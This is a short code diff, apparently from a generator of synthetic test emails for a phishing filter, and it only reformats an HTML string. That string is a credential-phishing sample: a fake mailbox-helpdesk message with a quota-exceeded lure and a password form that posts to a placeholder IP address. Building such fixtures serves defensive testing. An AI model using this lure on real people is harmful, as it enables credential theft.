@@ -190,7 +190,8 @@ def phish_form(r: random.Random) -> Mail:
     return Mail(
         from_=f'"Mailbox helpdesk" <help@{domain}>', subject="MAILBOX QUOTA EXCEEDED",
         text=None,
-        html=f'<p>Your mailbox is full. Validate your account.</p><form action="http://192.0.2.9/p"><input type="password"></form>',
+        html="<p>Your mailbox is full. Validate your account.</p>"
+        '<form action="http://192.0.2.9/p"><input type="password"></form>',
         auth=proof("softfail"), host=None,
     )  # fmt: skip
 
